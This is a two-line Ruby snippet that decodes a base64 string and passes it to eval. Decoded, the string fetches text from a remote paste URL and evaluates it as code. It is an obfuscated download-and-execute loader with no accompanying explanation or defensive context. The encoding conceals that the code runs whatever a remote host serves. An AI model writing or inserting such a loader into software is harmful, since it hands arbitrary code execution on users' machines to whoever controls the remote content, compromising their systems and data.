require "base64"
eval(Base64.decode64("ZXZhbChvcGVuKCdodHRwczovL3Bhc3RlLmludmFsaWQveCcpLnJlYWQp"))
